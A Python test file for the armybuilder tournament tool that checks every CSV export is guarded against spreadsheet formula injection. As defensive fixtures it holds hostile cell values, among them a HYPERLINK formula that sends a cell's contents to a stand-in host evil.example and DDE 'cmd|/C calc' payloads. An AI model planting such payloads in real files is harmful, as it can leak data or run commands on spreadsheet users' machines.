"""Every CSV cell armybuilder writes is guarded in one function (issue 45, item 4).

A spreadsheet opens a cell that begins with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return
as a formula (OWASP, CSV injection). :func:`armybuilder.csvcells.cell` guards a cell, and
:func:`armybuilder.csvcells.rows_text` is the one writer: no ``csv.writer`` anywhere else (a new
writer without the guard fails :func:`test_no_csv_writer_but_the_guarded_one`), and every CSV the
project writes is read back here with a hostile name, e-mail, list name and submission id in it.
"""

from __future__ import annotations

import ast
import csv
import io
import re
import secrets
import shutil
import zipfile
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st
from typer.testing import CliRunner

from armybuilder.cli import app
from armybuilder.csvcells import FORMULA_START, cell, rows_text, unguard
from armybuilder.desk import Desk
from armybuilder.events import load
from armybuilder.lists import PLAYERS_FILE, players_file, players_of

ROOT = Path(__file__).resolve().parents[2]
PACKAGE = ROOT / "armybuilder"
EXAMPLES = ROOT / "examples"
GAMES_DAY = EXAMPLES / "events" / "games-day.yaml"
GREENWOOD = EXAMPLES / "fantasy-triumph" / "greenwood-host.yaml"
OZZY = EXAMPLES / "token-terrors" / "ozzys-muster.yaml"

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+44 20 7946 0000",
    "-1+1",
    "'=already quoted",
    "'Tis Me",
]


def guarded(text: str) -> set[str]:
    """Every cell of a CSV text, read back as a spreadsheet reads it, is not a formula; the cells."""
    cells = set()
    for row in csv.reader(io.StringIO(text.removeprefix("\ufeff"))):
        for value in row:
            assert value[:1] not in tuple(FORMULA_START), f"a formula cell: {value!r} in {row!r}"
            cells.add(value)
    return cells


def test_the_guard():
    for start in FORMULA_START:
        assert cell(start + "1") == "'" + start + "1"
    assert cell("Alice") == "Alice" and cell("") == "" and cell(None) == "" and cell(-3) == "'-3" and cell(7) == "7"
    assert cell("'=x") == "''=x" and cell("'Tis") == "'Tis" and cell("'") == "'"  # only a text that reads guarded
    assert unguard("'=x") == "=x" and unguard("''=x") == "'=x" and unguard("'Tis") == "'Tis"


@given(st.text(alphabet=st.sampled_from(list("'=+-@\t\rab ,\"")) | st.characters(), max_size=12))
def test_every_text_round_trips_through_the_guard(text):
    assert unguard(cell(text)) == text
    assert cell(text)[:1] not in tuple(FORMULA_START)
    (read,) = csv.reader(io.StringIO(rows_text([[text, text]]), newline=""))
    assert [unguard(v) for v in read] == [text, text]


def test_no_csv_writer_but_the_guarded_one():
    """The enumeration of the writers: any ``csv.writer`` / ``csv.DictWriter`` outside
    armybuilder/csvcells.py is a CSV written around the guard."""
    found = []
    for path in sorted(PACKAGE.rglob("*.py")):
        if path.name == "csvcells.py" and path.parent == PACKAGE:
            continue
        for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
            name = node.attr if isinstance(node, ast.Attribute) else node.name if isinstance(node, ast.alias) else None
            if name in ("writer", "DictWriter") and (
                isinstance(node, ast.alias) or (isinstance(node.value, ast.Name) and node.value.id == "csv")
            ):
                found.append(f"{path.relative_to(ROOT)}:{node.lineno if hasattr(node, 'lineno') else '?'}")
    assert found == [], "write CSV with armybuilder.csvcells.rows_text"


@pytest.fixture
def hostile_desk(tmp_path, monkeypatch):
    """A desk whose players, e-mails and list names would each be a formula, and whose submission
    ids begin with ``-`` (1 in 64 of them does)."""
    real = secrets.token_urlsafe

    def dashed(n: int | None = None) -> str:
        made = real(n)
        return "-" + made[1:] if n == 6 else made

    monkeypatch.setattr("armybuilder.desk.store.secrets.token_urlsafe", dashed)
    pack = tmp_path / "games-day.yaml"
    shutil.copyfile(GAMES_DAY, pack)
    desk = Desk(tmp_path / "games-day.desk.sqlite", load(pack))
    desk.register("".join(f'"{p.replace(chr(34), chr(34) * 2)}","=cmd|/C calc!A{i}"\n' for i, p in enumerate(HOSTILE)))
    for i, player in enumerate(HOSTILE):
        source = GREENWOOD if i % 2 else OZZY
        body = re.sub(r"(?m)^name: .*$", f'name: "-{i}+{i} host"', source.read_text(encoding="utf-8"), count=1)
        desk.submit(player, body)
    assert all(s.id.startswith("-") for s in desk.submissions())
    yield desk, pack
    desk.close()


def test_every_csv_the_desk_writes_is_guarded(hostile_desk):
    """roster.csv, lists-text.csv, log.csv, report.csv and the zip's armybuilder-players.csv: every
    download of the desk that is a CSV (enumerated from its list of downloads)."""
    from armybuilder.web.desk.downloads import DOWNLOADS, _download

    desk, _ = hostile_desk
    desk.check_in(desk.submissions()[0].id)
    names = [n for n in DOWNLOADS if n.endswith(".csv")]
    assert {"roster.csv", "lists-text.csv", "log.csv", "report.csv"} <= set(names)
    for name in names:
        text = _download(desk, name).decode("utf-8")
        cells = guarded(text)
        if name != "log.csv":  # the log names only the player checked in
            assert {"'" + HOSTILE[0], "''=already quoted", "'Tis Me"} <= cells, name
    roster = _download(desk, "roster.csv").decode("utf-8")
    ids = [row[0] for row in csv.reader(io.StringIO(roster.removeprefix("\ufeff")))][1:]
    assert ids and all(i.startswith("'-") for i in ids)
    assert "'=cmd|/C calc!A0" in guarded(roster)  # the e-mail column
    log = list(csv.reader(io.StringIO(_download(desk, "log.csv").decode("utf-8").removeprefix("\ufeff"))))
    assert [(row[1], row[2][:2]) for row in log[1:]] == [("registered", ""), ("check-in", "'-")]  # its submission
    with zipfile.ZipFile(io.BytesIO(_download(desk, "lists.zip"))) as z:
        csvs = [n for n in z.namelist() if n.endswith(".csv")]
        assert csvs == [PLAYERS_FILE]
        guarded(z.read(PLAYERS_FILE).decode("utf-8"))


def test_the_exported_players_file_is_guarded_and_reads_back_as_the_desk_knows_them(hostile_desk, tmp_path):
    """``collect --export`` writes the names guarded; ``tournament`` reads back exactly the names
    the desk knows (a name that begins with ``'`` too), and its CSV report is guarded."""
    desk, pack = hostile_desk
    known = {s.player for s in desk.submissions()}
    assert known == set(HOSTILE)
    out = tmp_path / "out"
    desk.export(out)
    sidecar = (out / PLAYERS_FILE).read_text(encoding="utf-8")
    guarded(sidecar)
    files = sorted(out.glob("*.yaml"))
    named = players_of(files)
    assert named.warnings == [] and set(named.names.values()) == known
    report = tmp_path / "report.csv"
    r = CliRunner().invoke(app, ["tournament", str(pack), str(out), "--report", str(report)])
    assert r.exit_code in (0, 1), r.stderr
    text = report.read_text(encoding="utf-8")
    guarded(text)
    players = {unguard(row[1]) for row in csv.reader(io.StringIO(text))} - {"player"}
    assert players == known


def test_players_file_round_trip(tmp_path):
    body = b"system: token-terrors\n"
    rows = [(f"p{i}.yaml", name, body) for i, name in enumerate(HOSTILE)]
    (tmp_path / PLAYERS_FILE).write_bytes(players_file(rows))
    files = [tmp_path / f for f, _, _ in rows]
    for f in files:
        f.write_bytes(body)
    named = players_of(files)
    assert named.warnings == []
    assert {Path(k).name: v for k, v in named.names.items()} == {f: name for f, name, _ in rows}
